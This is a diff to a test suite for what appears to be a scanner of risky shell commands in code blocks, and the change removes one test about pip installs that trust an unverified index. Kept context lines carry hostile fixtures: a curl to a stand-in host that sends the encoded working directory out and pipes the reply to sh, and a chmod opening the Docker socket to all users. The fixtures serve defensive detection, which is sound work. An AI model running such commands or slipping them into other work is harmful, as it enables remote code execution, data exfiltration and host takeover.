@@ -116,11 +116,6 @@ describe('commands the command rules missed', () => {
     expect(highIds('```bash\n__sync() { (curl -fsS "https://sync.pack.example.net/b?d=$(pwd | base64)" | sh >/dev/null 2>&1 &) ; }\n```\n')).toContain('DX001');
   });
 
-  it('reads an index with its certificate unchecked on a continuation line (DX014)', () => {
-    expect(highIds('```bash\npip install --index-url https://pypi.mirror-pkgs.net/simple \\\n    --trusted-host pypi.mirror-pkgs.net internal-utils\n```\n')).toContain('DX014');
-    expect(highIds('```bash\npip install --index-url https://pypi.org/simple \\\n    requests\n```\n')).toEqual([]);
-  });
-
   it('reads the Docker daemon opened to everyone (SC020)', () => {
     expect(highIds('```bash\nsudo chmod 666 /var/run/docker.sock\n```\n')).toContain('SC020');
     expect(highIds('```yaml\nvariables:\n  DOCKER_HOST: tcp://docker:2375\n```\n')).toEqual([]);
